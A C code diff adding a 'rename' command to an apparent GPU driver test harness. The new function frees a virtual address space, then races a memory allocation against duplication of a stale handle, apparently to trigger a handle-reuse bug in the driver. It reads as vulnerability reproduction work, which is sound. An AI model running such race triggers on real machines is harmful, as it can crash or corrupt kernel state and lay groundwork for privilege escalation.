@@ -390,6 +390,52 @@ static void forge_register(void)
 	step("status", swap.status);
 }
 
+/* ------------------------------------------------------- a handle that is given out again */
+
+enum { STALE = 0x51000001, ANOTHER = 0x51000002 };
+
+static void *allocate_stale(void *status)
+{
+	u32 handle = STALE;
+
+	*(int *)status = sc_rm_alloc(&sc, sc.device, &handle, 0x40, &asked_params,
+				     sizeof(asked_params));
+	return NULL;
+}
+
+/*
+ * Virtual addresses go with their address space, which nobody tells the module. Their handle is
+ * then given to memory, and duplicated before that is known.
+ */
+static void rename_stale(u64 size)
+{
+	struct { u32 index, flags; u64 rest[6]; } space = { 0 };
+	struct nv_memory_alloc addresses = { .owner = sc.client, .flags = 0x80000 | 0x400,
+					     .size = 2 << 20 };
+	u32 vaspace = 0, handle = STALE;
+	pthread_t thread;
+	int status;
+
+	status = sc_rm_alloc(&sc, sc.device, &vaspace, 0x90f1, &space, sizeof(space));
+	addresses.hVASpace = vaspace;
+	if (!status)
+		status = sc_rm_alloc(&sc, sc.device, &handle, 0x50a0, &addresses,
+				     sizeof(addresses));
+	if (!status)
+		status = sc_rm_free(&sc, sc.client, vaspace);
+	if (status)
+		die("addresses", status);
+	asked_params = (struct nv_memory_alloc){ .owner = sc.client, .size = size };
+	step("ready", 0);
+	pthread_create(&thread, NULL, allocate_stale, &status);
+	step("called", 0);
+	handle = ANOTHER;
+	step("duplicated", sc_rm_dup(&sc, sc.client, sc.device, &handle, sc.client, STALE));
+	pthread_join(thread, NULL);
+	step("status", status);
+	step("freed", sc_rm_free(&sc, sc.client, STALE));
+}
+
 /* ------------------------------------------------------ figures before their time */
 
 static struct { u32 index, data; } entry = { FB_INFO_TOTAL_RAM_SIZE, 0 };
@@ -573,6 +619,8 @@ int main(int argc, char **argv)
 		vanish(strtoull(argv[2], NULL, 0));
 	else if (!strcmp(command, "forge-register"))
 		forge_register();
+	else if (!strcmp(command, "rename") && argc == 3)
+		rename_stale(strtoull(argv[2], NULL, 0));
 	else if (!strcmp(command, "peek"))
 		peek();
 	else if (!strcmp(command, "take-away"))
